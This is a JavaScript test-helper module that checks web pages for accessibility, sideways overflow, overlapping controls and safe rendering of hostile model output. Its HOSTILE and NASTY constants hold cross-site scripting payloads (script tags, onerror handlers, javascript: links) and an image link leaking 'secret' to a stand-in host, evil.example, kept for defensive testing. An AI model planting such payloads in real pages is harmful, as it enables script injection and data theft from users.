// Checks for every page: axe finds nothing serious, nothing overflows, no control covers another, hostile text does nothing.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

/** Texts of a model that tries to run a script or to contact a server. */
export const HOSTILE = '# <img src=x onerror="window.owned=1">\n\n<script>window.owned = 1</script>\n\n![pixel](https://evil.example/pixel.png?q=secret)\n\n[click](javascript:window.owned=1) [data](data:text/html,<script>1</script>)\n\n<iframe src="https://evil.example"></iframe> <a href="javascript:window.owned=1">x</a>\n\n[ok](https://example.org/)';
export const NASTY = '"><script>window.owned=1</script>';

/** Records requests to other servers and dialogs of the page. */
export function watchRequests(page, url) {
  const met = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(url) && !request.url().startsWith('data:')) met.push(request.url());
  });
  page.on('dialog', (dialog) => met.push(dialog.message()));
  return met;
}

async function open(page, address) {
  await page.goto(address);
  await page.getByRole('heading').first().waitFor();
}

/** Both themes, wide and narrow. */
export async function assertAccessible(page, url, places) {
  for (const colorScheme of ['light', 'dark']) {
    for (const width of [1600, 375]) {
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
      await page.setViewportSize({ width, height: 900 });
      for (const place of places) {
        await open(page, url + place);
        // The page's policy forbids foreign scripts; the inspector comes in through the debugger.
        await page.evaluate(axe);
        const { violations } = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
        const serious = violations.filter((violation) => ['serious', 'critical'].includes(violation.impact));
        assert.deepEqual(serious.map((violation) => `${violation.id}: ${violation.nodes[0].html}`), [], `${place} ${colorScheme} ${width}`);
      }
    }
  }
}

/** A phone, a tablet, a desktop. */
export async function assertNoOverflow(page, url, places) {
  for (const width of [375, 768, 1600]) {
    await page.setViewportSize({ width, height: 900 });
    for (const place of places) {
      await open(page, url + place);
      assert.ok((await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)) <= 0, `${place} at ${width} scrolls sideways`);
      assert.deepEqual(await page.evaluate(covered), [], `${place} at ${width}`);
    }
  }
}

/** Buttons and links that are covered by another. */
function covered() {
  const shown = [...document.querySelectorAll('main button, main a, main input')].filter((element) => {
    const box = element.getBoundingClientRect();
    return box.width > 0 && box.height > 0 && box.top >= 0 && box.bottom < innerHeight - 70 && box.left >= 0 && box.right <= innerWidth && getComputedStyle(element).visibility === 'visible' && !element.closest('[inert]');
  });
  return shown
    .filter((element) => {
      const box = element.getBoundingClientRect();
      const top = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
      const scrolled = element.closest('[role=tablist], .tabs');
      return top && !scrolled && !element.contains(top) && !top.contains(element) && !top.closest('label, li, canvas, [role=tree], [role=slider], nav');
    })
    .map((element) => element.outerHTML.slice(0, 120));
}

/** Elements that a hostile text would have made, and what it would have done. */
export async function assertHarmless(page, url, places) {
  for (const place of places) {
    await open(page, url + place);
    const bad = await page.evaluate(() => [...document.querySelectorAll('main script, main iframe, main img, a[href^="javascript"], a[href^="data"]')].map((element) => element.outerHTML));
    assert.deepEqual(bad, [], place);
  }
  assert.equal(await page.evaluate(() => window.owned), undefined);
}
